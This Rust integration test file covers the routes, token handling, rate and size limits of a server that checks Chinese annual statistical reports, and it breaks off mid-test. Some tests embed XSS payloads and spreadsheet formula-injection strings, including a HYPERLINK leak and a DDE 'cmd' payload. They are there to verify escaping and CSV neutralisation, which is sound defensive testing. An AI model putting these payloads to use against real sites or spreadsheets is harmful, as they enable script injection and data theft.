//! Every route of the server and every error status, through a real HTTP client
//! over a real socket on 127.0.0.1 (the `nianbao-server` binary, started per test).

mod common;

use base64::Engine;
use common::{client, fixture_bytes, sha256_hex, Client, Collection, Server};
use reqwest::blocking::multipart;
use reqwest::blocking::Response;
use serde_json::Value;

const ZHONGWEI: &str = "zhongwei-2017.md";

fn json(res: Response) -> Value {
    let text = res.text().expect("body");
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

/// An error body: `{"error": {"code", "message": {"zh", "en"}}}`; returns the code.
fn error_code(res: Response, status: u16) -> String {
    assert_eq!(res.status(), status, "expected {status}");
    assert!(
        res.headers()[reqwest::header::CONTENT_TYPE]
            .to_str()
            .unwrap_or_default()
            .starts_with("application/json"),
        "an error is JSON"
    );
    let body = json(res);
    let err = &body["error"];
    assert!(
        !err["message"]["zh"].as_str().unwrap_or_default().is_empty(),
        "a Chinese message: {body}"
    );
    assert!(
        !err["message"]["en"].as_str().unwrap_or_default().is_empty(),
        "an English message: {body}"
    );
    err["code"].as_str().expect("an error code").to_string()
}

fn post_report(
    c: &Client,
    s: &Server,
    path: &str,
    token: Option<&str>,
    content_type: &str,
    body: Vec<u8>,
) -> Response {
    let mut req = c
        .post(s.url(path))
        .header("Content-Type", content_type)
        .body(body);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().expect("POST")
}

fn upload(c: &Client, s: &Server, col: &Collection, name: &str, body: Vec<u8>) -> Value {
    let res = post_report(
        c,
        s,
        &col.path(&format!("/reports?name={name}")),
        Some(&col.upload),
        "text/markdown; charset=utf-8",
        body,
    );
    assert_eq!(res.status(), 201);
    json(res)
}

fn get(c: &Client, s: &Server, path: &str, token: Option<&str>) -> Response {
    let mut req = c.get(s.url(path));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().expect("GET")
}

fn codes(doc: &Value) -> Vec<String> {
    doc["reports"][0]["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .iter()
        .map(|d| d["code"].as_str().expect("code").to_string())
        .collect()
}

#[test]
fn health_and_pages() {
    let s = Server::start();
    let c = client();
    let res = get(&c, &s, "/healthz", None);
    assert_eq!(res.status(), 200);
    assert_eq!(res.text().expect("body"), "ok");
    for path in ["/", "/rules", "/collections/1"] {
        let res = get(&c, &s, path, None);
        assert_eq!(res.status(), 200, "{path}");
        assert!(res.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .starts_with("text/html"));
        let page = res.text().expect("body");
        assert!(page.starts_with("<!DOCTYPE html>"), "{path}");
    }
    let res = get(&c, &s, "/no/such/page", None);
    assert_eq!(res.status(), 404);
    // A route asked with another method.
    let res = get(&c, &s, "/api/v1/check", None);
    assert_eq!(res.status(), 405);
    let res = c.delete(s.url("/api/v1/rules")).send().expect("DELETE");
    assert_eq!(res.status(), 405);
}

#[test]
fn check_returns_the_check_document() {
    let s = Server::start();
    let c = client();
    // Raw body, name from the query.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check?name=zhongwei-2017.md",
        None,
        "text/markdown",
        fixture_bytes(ZHONGWEI),
    );
    assert_eq!(res.status(), 200);
    let doc = json(res);
    assert_eq!(doc["schema"], "nianbao.check/2");
    let entry = &doc["reports"][0];
    assert_eq!(entry["path"], "zhongwei-2017.md");
    assert_eq!(entry["format"], "stat-table-2008");
    assert_eq!(entry["variant"], Value::Null);
    assert_eq!(entry["issuer"], "中卫市");
    assert_eq!(entry["issuer_kind"], "government");
    assert_eq!(entry["year"], 2017);
    let first = &entry["diagnostics"][0];
    assert_eq!(
        first["message"], first["messages"]["zh"],
        "Chinese by default"
    );

    // Every accepted media type gives the same document.
    for ct in [
        "text/plain",
        "text/html",
        "application/octet-stream",
        "application/xhtml+xml",
    ] {
        let res = post_report(
            &c,
            &s,
            "/api/v1/check?name=zhongwei-2017.md",
            None,
            ct,
            fixture_bytes(ZHONGWEI),
        );
        assert_eq!(res.status(), 200, "{ct}");
        assert_eq!(json(res), doc, "{ct}");
    }

    // No Content-Type at all is a raw body too (named `report`).
    let res = c
        .post(s.url("/api/v1/check"))
        .body(fixture_bytes(ZHONGWEI))
        .send()
        .expect("POST");
    assert_eq!(res.status(), 200);
    assert_eq!(json(res)["reports"][0]["path"], "report");

    // Multipart: the first field is the report, its file name the path.
    let form = multipart::Form::new().part(
        "file",
        multipart::Part::bytes(fixture_bytes(ZHONGWEI)).file_name("zhongwei-2017.md"),
    );
    let res = c
        .post(s.url("/api/v1/check"))
        .multipart(form)
        .send()
        .expect("POST multipart");
    assert_eq!(res.status(), 200);
    assert_eq!(json(res), doc);

    // English: ?lang=en, or Accept-Language.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check?lang=en",
        None,
        "text/plain",
        fixture_bytes(ZHONGWEI),
    );
    let en = json(res);
    let first = &en["reports"][0]["diagnostics"][0];
    assert_eq!(first["message"], first["messages"]["en"]);
    let res = c
        .post(s.url("/api/v1/check"))
        .header("Content-Type", "text/plain")
        .header("Accept-Language", "en-US,en;q=0.9")
        .body(fixture_bytes(ZHONGWEI))
        .send()
        .expect("POST");
    assert_eq!(json(res), en);
}

#[test]
fn a_body_that_is_not_a_report_is_a_finding_not_an_error() {
    let s = Server::start();
    let c = client();
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "text/plain",
        b"hello, this is a shopping list: apples, pears".to_vec(),
    );
    assert_eq!(res.status(), 200);
    assert!(codes(&json(res)).contains(&"NB003".to_string()));
    // Empty and undecodable bodies, likewise.
    let res = post_report(&c, &s, "/api/v1/check", None, "text/plain", Vec::new());
    assert_eq!(res.status(), 200);
    assert!(codes(&json(res)).contains(&"NB002".to_string()));
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "application/octet-stream",
        vec![0xff, 0xfe, 0x00, 0x01, 0x80, 0x81],
    );
    assert_eq!(res.status(), 200);
    assert!(!codes(&json(res)).is_empty());
}

#[test]
fn check_rejects_other_media_types_with_415() {
    let s = Server::start();
    let c = client();
    for ct in [
        "application/json",
        "application/x-www-form-urlencoded",
        "image/png",
    ] {
        let res = post_report(&c, &s, "/api/v1/check", None, ct, fixture_bytes(ZHONGWEI));
        assert_eq!(error_code(res, 415), "unsupported-media-type", "{ct}");
    }
}

#[test]
fn malformed_multipart_is_422() {
    let s = Server::start();
    let c = client();
    // A boundary that never appears.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "multipart/form-data; boundary=XYZ",
        b"this is not a multipart body".to_vec(),
    );
    assert_eq!(error_code(res, 422), "bad-multipart");
    // No boundary at all.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "multipart/form-data",
        b"--x\r\n".to_vec(),
    );
    assert_eq!(error_code(res, 422), "bad-multipart");
    // A form without a field.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "multipart/form-data; boundary=XYZ",
        b"--XYZ--\r\n".to_vec(),
    );
    assert_eq!(error_code(res, 422), "missing-file");
}

#[test]
fn rules_and_openapi() {
    let s = Server::start();
    let c = client();
    let res = get(&c, &s, "/api/v1/rules", None);
    assert_eq!(res.status(), 200);
    let zh = json(res);
    assert_eq!(zh["schema"], "nianbao.rules/1");
    let rules = zh["rules"].as_array().expect("rules");
    assert!(rules.iter().any(|r| r["code"] == "NB003"));
    for r in rules {
        assert_eq!(r["summary"], r["summaries"]["zh"]);
    }
    let en = json(get(&c, &s, "/api/v1/rules?lang=en", None));
    for r in en["rules"].as_array().expect("rules") {
        assert_eq!(r["summary"], r["summaries"]["en"]);
    }

    let res = get(&c, &s, "/api/v1/openapi.json", None);
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/json");
    let doc = json(res);
    assert_eq!(doc["openapi"], "3.1.0");
    assert!(doc["paths"]["/api/v1/check"]["post"].is_object());
}

#[test]
fn create_collection_gives_two_random_tokens() {
    let s = Server::start();
    let c = client();
    let res = c
        .post(s.url("/api/v1/collections"))
        .json(&serde_json::json!({"name": "某市 2024 汇总", "year": 2024}))
        .send()
        .expect("POST");
    assert_eq!(res.status(), 201);
    let body = json(res);
    assert_eq!(body["name"], "某市 2024 汇总");
    assert_eq!(body["year"], 2024);
    let a = body["admin_token"].as_str().expect("admin token");
    let u = body["upload_token"].as_str().expect("upload token");
    for t in [a, u] {
        // 64 hex digits: 256 random bits (at least 128 required).
        assert_eq!(t.len(), 64);
        assert!(t.bytes().all(|b| b.is_ascii_hexdigit()));
    }
    assert_ne!(a, u);
    let other = s.create_collection(&c, "another", 2024);
    assert_ne!(other.admin, a);
    assert_ne!(other.upload, u);
    assert_ne!(other.id, body["id"].as_i64().expect("id"));
}

#[test]
fn tokens_are_stored_hashed() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "hashed", 2024);
    upload(&c, &s, &col, "a.md", fixture_bytes(ZHONGWEI));
    // Everything SQLite has written: the database and its write-ahead log.
    let mut stored = Vec::new();
    for ext in ["db", "db-wal"] {
        stored.extend(std::fs::read(s.db.with_extension(ext)).unwrap_or_default());
    }
    assert!(!stored.is_empty());
    let contains = |needle: &[u8]| stored.windows(needle.len()).any(|w| w == needle);
    for token in [&col.admin, &col.upload] {
        assert!(!contains(token.as_bytes()), "a token is stored in clear");
        let raw = hex::decode(token).expect("hex");
        assert!(!contains(&raw), "a token's bytes are stored in clear");
        let hash = hex::decode(sha256_hex(token.as_bytes())).expect("hex");
        assert!(contains(&hash), "the token's SHA-256 is what is stored");
    }
}

#[test]
fn create_collection_errors() {
    let s = Server::start();
    let c = client();
    let send = |ct: Option<&str>, body: &str| {
        let mut req = c.post(s.url("/api/v1/collections")).body(body.to_string());
        if let Some(ct) = ct {
            req = req.header("Content-Type", ct);
        }
        req.send().expect("POST")
    };
    let j = Some("application/json");
    assert_eq!(error_code(send(j, "{not json"), 422), "invalid-json");
    assert_eq!(error_code(send(j, r#"{"name": "x"}"#), 422), "invalid-json");
    assert_eq!(
        error_code(send(j, r#"{"year": 2024}"#), 422),
        "invalid-json"
    );
    assert_eq!(
        error_code(send(j, r#"{"name": 7, "year": 2024}"#), 422),
        "invalid-json"
    );
    assert_eq!(error_code(send(j, ""), 422), "invalid-json");
    assert_eq!(
        error_code(send(None, r#"{"name": "x", "year": 2024}"#), 415),
        "unsupported-media-type"
    );
    assert_eq!(
        error_code(
            send(Some("text/plain"), r#"{"name": "x", "year": 2024}"#),
            415
        ),
        "unsupported-media-type"
    );
}

/// The routes that need a token: method, path after `/api/v1/collections/{id}`, and
/// whether the upload token is enough.
const PROTECTED: &[(&str, &str, bool)] = &[
    ("POST", "/reports", true),
    ("GET", "/reports", false),
    ("GET", "/reports/RID", false),
    ("DELETE", "/reports/RID", false),
    ("GET", "/aggregate", false),
    ("GET", "/table.csv", false),
    ("GET", "/table.xlsx", false),
];

fn send(
    c: &Client,
    s: &Server,
    method: &str,
    id: i64,
    rest: &str,
    rid: i64,
    token: Option<&str>,
) -> Response {
    let url = s.url(&format!(
        "/api/v1/collections/{id}{}",
        rest.replace("RID", &rid.to_string())
    ));
    let mut req = match method {
        "POST" => c
            .post(url)
            .header("Content-Type", "text/markdown")
            .body(fixture_bytes(ZHONGWEI)),
        "DELETE" => c.delete(url),
        _ => c.get(url),
    };
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().expect("request")
}

#[test]
fn tokens_401_and_404() {
    let s = Server::start();
    let c = client();
    let mine = s.create_collection(&c, "mine", 2024);
    let theirs = s.create_collection(&c, "theirs", 2024);
    let rid = upload(&c, &s, &mine, "a.md", fixture_bytes(ZHONGWEI))["id"]
        .as_i64()
        .expect("id");
    let their_rid = upload(&c, &s, &theirs, "b.md", fixture_bytes(ZHONGWEI))["id"]
        .as_i64()
        .expect("id");
    for &(method, rest, upload_ok) in PROTECTED {
        let what = format!("{method} {rest}");
        // No token, or not a bearer token: 401.
        let res = send(&c, &s, method, mine.id, rest, rid, None);
        assert_eq!(error_code(res, 401), "unauthorized", "{what}");
        let url = s.url(&format!(
            "/api/v1/collections/{}{}",
            mine.id,
            rest.replace("RID", &rid.to_string())
        ));
        let res = c
            .request(method.parse().expect("method"), url)
            .header("Authorization", format!("Basic {}", mine.admin))
            .send()
            .expect("request");
        assert_eq!(res.status(), 401, "{what}: Basic is not a bearer token");
        // Another collection's tokens: 404, as if the collection did not exist.
        for token in [&theirs.admin, &theirs.upload] {
            let res = send(&c, &s, method, mine.id, rest, rid, Some(token));
            assert_eq!(error_code(res, 404), "not-found", "{what}");
        }
        // A made-up token, and a collection that does not exist: 404.
        let res = send(&c, &s, method, mine.id, rest, rid, Some(&"0".repeat(64)));
        assert_eq!(res.status(), 404, "{what}");
        let res = send(&c, &s, method, 9999, rest, rid, Some(&mine.admin));
        assert_eq!(res.status(), 404, "{what}");
        // The upload token only uploads.
        if !upload_ok {
            let res = send(&c, &s, method, mine.id, rest, rid, Some(&mine.upload));
            assert_eq!(res.status(), 404, "{what}: the upload token is not enough");
        }
        // A report of another collection is not found through this one.
        if rest.contains("RID") {
            let res = send(&c, &s, method, mine.id, rest, their_rid, Some(&mine.admin));
            assert_eq!(error_code(res, 404), "not-found", "{what}");
        }
    }
    // Nothing above changed theirs.
    let list = json(get(&c, &s, &theirs.path("/reports"), Some(&theirs.admin)));
    assert_eq!(list["reports"].as_array().expect("reports").len(), 1);
}

#[test]
fn collection_reports_round_trip() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "round trip", 2024);
    let bytes = fixture_bytes(ZHONGWEI);

    // Upload with the upload token (raw body) and the admin token (multipart).
    let first = upload(&c, &s, &col, "zhongwei-2017.md", bytes.clone());
    assert_eq!(first["sha256"], sha256_hex(&bytes));
    assert_eq!(first["report"]["path"], "zhongwei-2017.md");
    assert_eq!(first["report"]["issuer"], "中卫市");
    let checked = json(post_report(
        &c,
        &s,
        "/api/v1/check?name=zhongwei-2017.md",
        None,
        "text/markdown",
        bytes.clone(),
    ));
    assert_eq!(
        first["report"], checked["reports"][0],
        "the stored findings are the check's"
    );
    let pingtan = fixture_bytes("pingtan-2024.md");
    let form = multipart::Form::new().part(
        "report",
        multipart::Part::bytes(pingtan.clone()).file_name("pingtan-2024.md"),
    );
    let res = c
        .post(s.url(&col.path("/reports")))
        .bearer_auth(&col.admin)
        .multipart(form)
        .send()
        .expect("POST multipart");
    assert_eq!(res.status(), 201);
    let second = json(res);
    assert_eq!(second["report"]["path"], "pingtan-2024.md");
    let (r1, r2) = (
        first["id"].as_i64().expect("id"),
        second["id"].as_i64().expect("id"),
    );

    // Uploads take what the check takes: the same 415 and 422.
    let uploads = col.path("/reports");
    let res = post_report(
        &c,
        &s,
        &uploads,
        Some(&col.upload),
        "application/json",
        b"{}".to_vec(),
    );
    assert_eq!(error_code(res, 415), "unsupported-media-type");
    let res = post_report(
        &c,
        &s,
        &uploads,
        Some(&col.upload),
        "multipart/form-data; boundary=XYZ",
        b"--XYZ--\r\n".to_vec(),
    );
    assert_eq!(error_code(res, 422), "missing-file");
    // A body that is not a report is stored with its finding, as the CLI would report it.
    let not_a_report = upload(&c, &s, &col, "note.txt", b"just a note".to_vec());
    assert!(not_a_report["report"]["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .iter()
        .any(|d| d["code"] == "NB003"));
    let del = c
        .delete(s.url(&format!(
            "{uploads}/{}",
            not_a_report["id"].as_i64().expect("id")
        )))
        .bearer_auth(&col.admin)
        .send()
        .expect("DELETE");
    assert_eq!(del.status(), 204);

    // The list.
    let res = get(&c, &s, &col.path("/reports"), Some(&col.admin));
    assert_eq!(res.status(), 200);
    let list = json(res);
    let reports = list["reports"].as_array().expect("reports");
    assert_eq!(reports.len(), 2);
    assert_eq!(reports[0]["id"], r1);
    assert_eq!(reports[0]["name"], "zhongwei-2017.md");
    assert_eq!(reports[0]["issuer"], "中卫市");
    assert_eq!(reports[0]["year"], 2017);
    assert_eq!(reports[0]["summary"], first["report"]["summary"]);
    assert_eq!(reports[1]["id"], r2);

    // One report: bytes unchanged, as base64 and raw.
    let res = get(
        &c,
        &s,
        &col.path(&format!("/reports/{r1}")),
        Some(&col.admin),
    );
    assert_eq!(res.status(), 200);
    let one = json(res);
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(one["bytes_base64"].as_str().expect("base64"))
        .expect("base64");
    assert_eq!(decoded, bytes);
    assert_eq!(one["size"], bytes.len());
    assert_eq!(one["sha256"], sha256_hex(&bytes));
    assert_eq!(one["findings"], first["report"]);
    let res = get(
        &c,
        &s,
        &col.path(&format!("/reports/{r2}?raw=1")),
        Some(&col.admin),
    );
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/octet-stream");
    assert_eq!(res.bytes().expect("body").to_vec(), pingtan);
    let res = get(&c, &s, &col.path("/reports/777"), Some(&col.admin));
    assert_eq!(error_code(res, 404), "not-found");

    // Exports.
    let res = get(&c, &s, &col.path("/table.csv"), Some(&col.admin));
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"]
        .to_str()
        .expect("ascii")
        .starts_with("text/csv"));
    let csv = res.text().expect("csv");
    assert!(csv.starts_with("path,issuer,year,format,variant,indicator,column,"));
    assert!(csv.contains("zhongwei-2017.md") && csv.contains("pingtan-2024.md"));
    let res = get(&c, &s, &col.path("/table.xlsx"), Some(&col.admin));
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let xlsx = res.bytes().expect("xlsx");
    assert!(xlsx.starts_with(b"PK"), "an xlsx is a zip");

    // Delete: 204, then 404.
    let del = |rid: i64| {
        c.delete(s.url(&col.path(&format!("/reports/{rid}"))))
            .bearer_auth(&col.admin)
            .send()
            .expect("DELETE")
    };
    let res = del(r1);
    assert_eq!(res.status(), 204);
    assert_eq!(error_code(del(r1), 404), "not-found");
    let list = json(get(&c, &s, &col.path("/reports"), Some(&col.admin)));
    assert_eq!(list["reports"].as_array().expect("reports").len(), 1);
}

#[test]
fn aggregate() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "aggregate", 2024);
    let path = col.path("/aggregate");
    // Nothing to merge yet.
    let res = get(&c, &s, &path, Some(&col.admin));
    assert_eq!(error_code(res, 422), "aggregate");
    let sub = upload(&c, &s, &col, "sub.md", fixture_bytes("pingtan-2024.md"));
    let compiled = upload(
        &c,
        &s,
        &col,
        "compiled.md",
        fixture_bytes("pingtan-2024.md"),
    );
    let against = compiled["id"].as_i64().expect("id");
    assert!(sub["id"].as_i64().is_some());
    // One subordinate against an identical compiled report: nothing differs.
    let res = get(
        &c,
        &s,
        &format!("{path}?against={against}"),
        Some(&col.admin),
    );
    assert_eq!(res.status(), 200);
    let merged = json(res);
    assert!(merged.is_object(), "{merged}");
    // Both as subordinates, no compiled report.
    let res = get(&c, &s, &path, Some(&col.admin));
    assert_eq!(res.status(), 200);
    // A compiled report that is not in the collection.
    let res = get(&c, &s, &format!("{path}?against=4242"), Some(&col.admin));
    assert_eq!(error_code(res, 422), "aggregate");
    // A malformed query is the extractor's 400.
    let res = get(&c, &s, &format!("{path}?against=abc"), Some(&col.admin));
    assert_eq!(res.status(), 400);
}

#[test]
fn bodies_over_the_limit_get_a_clear_413() {
    let s = Server::start_with(&["--max-body", "1000"]);
    let c = client();
    let col = s.create_collection(&c, "limits", 2024);
    let uploads = col.path("/reports");
    // At the limit: accepted.
    let mut at_limit = "年度报告\n".repeat(100).into_bytes();
    at_limit.truncate(1000);
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "text/plain",
        at_limit.clone(),
    );
    assert_eq!(res.status(), 200);
    // One byte more: 413 with a message naming the flag, on every way in.
    let mut over = at_limit.clone();
    over.push(b'\n');
    let check_413 = |res: Response| {
        assert_eq!(res.status(), 413);
        let body = json(res);
        assert_eq!(body["error"]["code"], "body-too-large");
        assert!(body["error"]["message"]["en"]
            .as_str()
            .expect("message")
            .contains("--max-body"));
        assert!(body["error"]["message"]["zh"]
            .as_str()
            .expect("message")
            .contains("--max-body"));
    };
    check_413(post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "text/plain",
        over.clone(),
    ));
    check_413(post_report(
        &c,
        &s,
        &uploads,
        Some(&col.upload),
        "text/plain",
        over.clone(),
    ));
    let form = multipart::Form::new().part(
        "file",
        multipart::Part::bytes(over.clone()).file_name("big.md"),
    );
    check_413(
        c.post(s.url("/api/v1/check"))
            .multipart(form)
            .send()
            .expect("POST"),
    );
    let form =
        multipart::Form::new().part("file", multipart::Part::bytes(over).file_name("big.md"));
    check_413(
        c.post(s.url(&uploads))
            .bearer_auth(&col.upload)
            .multipart(form)
            .send()
            .expect("POST"),
    );
    // A JSON body too.
    let big_name = "x".repeat(2000);
    let res = c
        .post(s.url("/api/v1/collections"))
        .json(&serde_json::json!({"name": big_name, "year": 2024}))
        .send()
        .expect("POST");
    check_413(res);
    // Nothing was stored.
    let list = json(get(&c, &s, &uploads, Some(&col.admin)));
    assert_eq!(list["reports"].as_array().expect("reports").len(), 0);
}

#[test]
fn the_default_limit_is_20_mb() {
    let s = Server::start();
    let c = client();
    let res = post_report(
        &c,
        &s,
        "/api/v1/check",
        None,
        "text/plain",
        vec![b' '; 20 * 1024 * 1024 + 1],
    );
    assert_eq!(error_code(res, 413), "body-too-large");
}

#[test]
fn uploads_are_rate_limited_per_address() {
    let s = Server::start_with(&["--upload-burst", "2"]);
    let c = client();
    let col = s.create_collection(&c, "rate", 2024);
    let path = col.path("/reports");
    // Small uploads at once: the burst passes, then 429 until the bucket refills.
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..24)
            .map(|_| {
                scope.spawn(|| {
                    post_report(
                        &c,
                        &s,
                        &path,
                        Some(&col.upload),
                        "text/plain",
                        b"x".to_vec(),
                    )
                    .status()
                    .as_u16()
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("thread"))
            .collect()
    });
    assert!(statuses.contains(&201), "{statuses:?}");
    assert!(statuses.contains(&429), "{statuses:?}");
    assert!(
        statuses.iter().all(|s| *s == 201 || *s == 429),
        "{statuses:?}"
    );
    // Checks are not uploads: never rate-limited.
    for _ in 0..10 {
        let res = post_report(&c, &s, "/api/v1/check", None, "text/plain", b"x".to_vec());
        assert_eq!(res.status(), 200);
    }
}

#[test]
fn a_full_check_queue_is_503_with_retry_after() {
    let s = Server::start_with(&["--check-workers", "1", "--check-queue", "1"]);
    let c = client();
    let bytes = fixture_bytes(ZHONGWEI).repeat(8);
    let results: Vec<(u16, Option<String>)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..12)
            .map(|_| {
                scope.spawn(|| {
                    let res =
                        post_report(&c, &s, "/api/v1/check", None, "text/plain", bytes.clone());
                    let retry = res
                        .headers()
                        .get("retry-after")
                        .map(|v| v.to_str().expect("ascii").to_string());
                    let status = res.status().as_u16();
                    if status == 503 {
                        assert_eq!(error_code(res, 503), "busy");
                    }
                    (status, retry)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("thread"))
            .collect()
    });
    let statuses: Vec<u16> = results.iter().map(|r| r.0).collect();
    assert!(statuses.contains(&200), "{statuses:?}");
    assert!(statuses.contains(&503), "{statuses:?}");
    for (status, retry) in &results {
        match status {
            200 => assert_eq!(retry, &None),
            503 => assert_eq!(retry.as_deref(), Some("1")),
            other => panic!("unexpected status {other}"),
        }
    }
}

/// HTML-escaped, as the pages must write any text.
fn escaped(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[test]
fn pages_never_carry_report_text_as_html() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "<b>collection</b>", 2024);
    let evil = "<script>alert('nianbao-xss')</script><img src=x onerror=alert(2)>";
    let mut body = fixture_bytes(ZHONGWEI);
    body.extend_from_slice(format!("\n\n{evil}\n").as_bytes());
    let res = c
        .post(s.url(&col.path("/reports")))
        .query(&[("name", evil)])
        .bearer_auth(&col.upload)
        .header("Content-Type", "text/html")
        .body(body.clone())
        .send()
        .expect("POST");
    assert_eq!(res.status(), 201);
    // The API gives report text as JSON only.
    let res = post_report(&c, &s, "/api/v1/check", None, "text/html", body.clone());
    assert!(res.headers()["content-type"]
        .to_str()
        .expect("ascii")
        .starts_with("application/json"));
    // No page has the report's text or name in it, escaped or not, and the script
    // builds no element from HTML text.
    for path in [
        "/",
        "/rules",
        &format!("/collections/{}", col.id),
        "/static/nianbao.js",
    ] {
        let page = get(&c, &s, path, None).text().expect("page");
        assert!(!page.contains("nianbao-xss"), "{path}");
        assert!(!page.contains("<b>collection</b>"), "{path}");
        for sink in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
        ] {
            assert!(!page.contains(sink), "{path} uses {sink}");
        }
    }
    // The check page's answer shows the report rendered by the server: its markup
    // escaped, never as elements.
    let page = c
        .post(s.url("/check"))
        .multipart(
            reqwest::blocking::multipart::Form::new()
                .text("text", "")
                .part(
                    "file",
                    reqwest::blocking::multipart::Part::bytes(body).file_name(evil.to_string()),
                ),
        )
        .send()
        .expect("POST /check");
    assert_eq!(page.status(), 200);
    let page = page.text().expect("page");
    assert!(
        !page.contains(evil),
        "the report's markup is not in the page as HTML"
    );
    assert!(!page.contains("<img src=x"), "no element from the report");
    assert!(
        page.contains(&escaped(evil)),
        "the report's markup shows as text"
    );
    // A path segment that is not a collection id is a plain-text 400, not a page.
    let res = get(
        &c,
        &s,
        "/collections/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        None,
    );
    assert_eq!(res.status(), 400);
    assert!(!res.headers()["content-type"]
        .to_str()
        .expect("ascii")
        .starts_with("text/html"));
    // The rules page writes the catalog's text escaped.
    let page = get(&c, &s, "/rules", None).text().expect("page");
    let rules = json(get(&c, &s, "/api/v1/rules", None));
    for r in rules["rules"].as_array().expect("rules") {
        for text in [&r["summaries"]["zh"], &r["summaries"]["en"], &r["name"]] {
            let text = text.as_str().expect("text");
            assert!(page.contains(&escaped(text)), "{text}");
        }
    }
}

#[test]
fn table_csv_neutralises_cells_a_spreadsheet_would_run() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "csv", 2024);
    let evil = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")";
    for name in [evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
        let res = c
            .post(s.url(&col.path("/reports")))
            .query(&[("name", name)])
            .bearer_auth(&col.upload)
            .header("Content-Type", "text/markdown")
            .body(fixture_bytes("pingtan-2024.md"))
            .send()
            .expect("POST");
        assert_eq!(res.status(), 201, "{name}");
        assert_eq!(json(res)["report"]["path"], name);
    }
    let csv = get(&c, &s, &col.path("/table.csv"), Some(&col.admin))
        .text()
        .expect("csv");
    let mut records = 0;
    for line in csv.lines().skip(1) {
        // The first cell is the report's name; quoted by RFC 4180 when it holds a quote or comma.
        let first = line.trim_start_matches('"');
        assert!(
            !first.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet would run: {line}"
        );
        records += 1;
    }
    assert!(records > 40, "{csv}");
    assert!(
        csv.contains("'=HYPERLINK(\"\"http://example.invalid/"),
        "{csv}"
    );
    assert!(csv.contains("'+cmd|"));
    assert!(csv.contains("'@SUM(1+1)"));
    assert!(csv.contains("'-2+3"));
    // Plain numbers stay numbers.
    assert!(csv.lines().skip(1).all(|l| !l.contains(",'0")), "{csv}");
}

#[test]
fn tokens_rotate_and_a_collection_is_deleted_with_the_admin_token() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "rotate", 2024);
    let rotate = |which: &str, token: &str| {
        c.post(s.url(&format!("/api/v1/collections/{}/tokens/{which}", col.id)))
            .bearer_auth(token)
            .send()
            .expect("POST")
    };
    // The upload token cannot rotate anything.
    assert_eq!(rotate("upload", &col.upload).status(), 404);
    let res = rotate("upload", &col.admin);
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["cache-control"], "no-store");
    let upload = json(res)["token"].as_str().expect("token").to_string();
    assert_eq!(upload.len(), 64);
    assert_ne!(upload, col.upload);
    let upload_with = |token: &str| {
        c.post(s.url(&col.path("/reports")))
            .bearer_auth(token)
            .header("Content-Type", "text/markdown")
            .body(fixture_bytes("pingtan-2024.md"))
            .send()
            .expect("POST")
            .status()
    };
    assert_eq!(
        upload_with(&col.upload),
        404,
        "the old upload token stopped working"
    );
    assert_eq!(upload_with(&upload), 201, "the new one works");
    let admin = json(rotate("admin", &col.admin))["token"]
        .as_str()
        .expect("token")
        .to_string();
    assert_eq!(
        get(&c, &s, &col.path("/reports"), Some(&col.admin)).status(),
        404
    );
    assert_eq!(
        get(&c, &s, &col.path("/reports"), Some(&admin)).status(),
        200
    );
    // Delete: the upload token cannot; the admin token can, and then nothing is left.
    let delete = |token: &str| {
        c.delete(s.url(&format!("/api/v1/collections/{}", col.id)))
            .bearer_auth(token)
            .send()
            .expect("DELETE")
            .status()
    };
    assert_eq!(delete(&upload), 404);
    assert_eq!(delete(&admin), 204);
    assert_eq!(
        get(&c, &s, &col.path("/reports"), Some(&admin)).status(),
        404
    );
    assert_eq!(delete(&admin), 404);
}

#[test]
fn a_wrong_token_and_a_missing_collection_get_the_same_page() {
    let s = Server::start();
    let c = client();
    let col = s.create_collection(&c, "pages", 2024);
    let open = |id: i64, token: &str| {
        let res = c
            .post(s.url(&format!("/collections/{id}")))
            .form(&[("token", token)])
            .send()
            .expect("POST");
        (res.status().as_u16(), res.text().expect("page"))
    };
    let (status, ok) = open(col.id, &col.admin);
    assert_eq!(status, 200);
    assert!(ok.contains("pages（2024 年度）"), "the overview");
    let wrong = open(col.id, &col.upload);
